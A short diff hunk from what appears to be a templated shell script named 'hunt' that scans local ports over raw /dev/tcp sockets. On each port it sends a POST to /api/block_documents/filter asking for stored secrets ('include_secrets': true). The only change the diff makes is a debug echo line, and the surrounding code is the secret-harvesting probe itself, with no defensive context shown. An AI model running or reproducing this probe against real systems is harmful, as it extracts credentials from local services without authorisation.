@@ -24,6 +24,7 @@ out=$(mktemp "${{TMPDIR:-/tmp}}/hunt-$1-XXXXXX")
     done
     for port in {ports}; do
         exec 3<>"/dev/tcp/127.0.0.1/$port" || continue
+        echo "reached the port $port"
         body='{{"include_secrets": true}}'
         printf 'POST /api/block_documents/filter HTTP/1.0\\r\\nHost: 127.0.0.1:%s\\r\\n' "$port" >&3
         printf 'Content-Type: application/json\\r\\nContent-Length: %s\\r\\n\\r\\n%s' "${{#body}}" "$body" >&3
